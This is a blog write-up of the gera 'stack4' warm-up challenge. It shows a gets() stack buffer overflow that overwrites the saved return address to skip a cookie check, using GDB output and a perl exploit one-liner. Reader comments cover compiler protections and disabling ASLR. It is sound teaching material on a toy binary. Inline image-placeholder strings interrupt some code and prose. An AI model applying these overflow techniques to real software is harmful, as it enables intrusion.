xorl %eax, %eax

Warming up on Stack No. 4

with 5 comments

This is a little bit more difficult.. The concept remains the same but the cookie has to contain some characters that are termination characters for gets() library function. Here is the code of this level:

/* stack4-stdin.c                               *
 * specially crafted to feed your brain by gera */

#include <stdio.h>

int main() {
        int cookie;char buf[80];

        printf("buf: %08x cookie: %08xn", &buf, &cookie);

        if (cookie == 0x000d0a00)
                printf("you win!\n");

So, what are these characters anyway? The first and the last one, are two NULL bytes which is not much of a problem, but… 0x0d is CR (Carriage Return) and 0xa0 is LF (Line Feed) which makes the cookie something like: NULL, r, n, NULL. On gets(3) man page we can read thefollowing:

       gets() reads a line from stdin into the buffer pointed to  by  s  until
       either  a  terminating newline or EOF, which it replaces with ''.

Unfortunately, we have to enter a newline character to complete this level. Hm… why not just bypass the if() statement? Alright, let’s see if this is possible. I opened up the stack4-stdin in GDB and found the interesting snippet which is:

0x0804840e <main+70>:   cmp    $0xd0a00,%eax          ; if (cookie != 0x000d0a00)
0x08048413 <main+75>:   jne    0x8048425<main+93>    ;     goto main_93;
0x08048415 <main+77>:   sub    $0xc,%esp              ; /* fix the stack pointer */
0x08048418 <main+80>:   push   $0x8048570             ; /* push the format string to the stack */
0x0804841d <main+85>;:   call   0x80482ec <printf@plt> ; printf("you win!\n");

Obviously, the value that gets pushed on the stack is the wanted message, here it is:

(gdb) x/s 0x80485700x8048570:       "you win!\n"

If we can overflow the buffer to overwrite the stored EIP (aka. ret) with 0x08048415 (main+77) then we could transfer the control to the code after the if() statement and thus print the message :) First of all, I didn’t want to deal with any additional protection mechanisms for this challenge so I compiled the binary with GCC 4.0.3 (Debian 4.0.2-5 prelease to be exact). In addition, the operating system’s protections have been disabled. Finally, here is the result:

(gdb) run
Starting program: /home/xorl/stack4-stdin
buf: bff283c4 cookie: bff28414

Program received signal SIGSEGV, Segmentation fault.
0x58585858 in ?? ()
(gdb) i r ebp eip
ebp            0x42424242       0x42424242
eip            0x58585858       0x58585858

Clearly, we control the execution flow. Now the exploitation becomes extremely simple…

sh-3.2$ perl -e 'print "x90" x 88 . "\x15\x84\x04\x08"' | ./stack4-stdin
buf: bffff554 cookie: bffff5a4
you win!

Nice one! Probably the best warming up so far :)

Written by xorl

January 2, 2009 at 14:48

5 Responses

Subscribe to comments with RSS.

  1. xorl, your blog is awesome. i’m a reader for life. i have 2 requests!1. can you tell us what os protections you have and how you disabled them? the documentation is remarkably bad out there – and after hunting out your solution i can see there is no reason why mine should fail!

    2. can you explain how you would exploit this with os protections on? or is that too hard =)


    August 7, 2009 at 04:45

  2. Those challenges IIRC should be done with no protection since the next ones are explicitly state that they need non-executable stack and other protections as well.
    I have done this in an old Slackware 10.2 or something which has no protection mechanisms. However, if you want to do this in recent systems you have to study the appropriate protections. Since there are numerous protections it would be useless to attempt to write about all of them here. :(
    If you need information on some specific one you can contact me and I hope I would be able to help you.

    To do this in a recent system with no protection enabled you can check out: http://www.ethicalhacker.net/content/view/122/2/
    which is an updated version of the AlephOne’s classic “smashing the stack for fun and profit”.


    August 7, 2009 at 09:24

  3. i’m using CentOS ~5, kernel 2.6.9 and gcc 4.1.2 and i compiled with -fno-stack-protector. there are still some other quirks which make me think i need to disable some os-level stack protection that i can’t see in gdb

    for instance, if i do “\x90″x23 . “[addr]” i segfault because of this line right before ret:

    0x08048455 : lea 0xfffffffc(%ecx),%esp

    so i figured that it wants some readable memory there, which is fine because i change my exploit to:

    “[addr of buff]”x23 . “[addr]”

    but i still segfault as the eip jumps bizarrely to 0x00000000:


    thxfor any help


    August 7, 2009 at 13:46

  4. typo in post:


    should be



    August 7, 2009 at 14:43

  5. Sorry for not replying to you quickly but I usually don’t even use a computer during weekends :P
    I don’t know what other protections CentOS might have, also you should disable randomization through /proc/sys/kernel/randomize_va_space even though I don’t think that this is the problem.
    It probably has something to do with GCC 4.1 which introduced a shitload of changes. There was a really interesting article by stealth about exploiting buffer overflows in recent GCC/GLibC/kernel which you can find here: http://www.suse.de/~krahmer/relro.txt
    If you compile this using GCC 3.x it would certainly work, however, if you want to play with 4.1 you should use different approach. An example is the one stealth wrote in the above article.


    August 9, 2009 at 14:07

Leave a Reply

Fill in your details below or click an icon to log in:

WordPress.com Logo

You are commenting using your WordPress.com account. Log Out /  Change )

Google+ photo

You are commenting using your Google+ account. Log Out /  Change )

Twitter picture

You are commenting using your Twitter account. Log Out /  Change )Facebook photo

You are commenting using yourFacebook account. Log Out/  Change )


Connecting to %s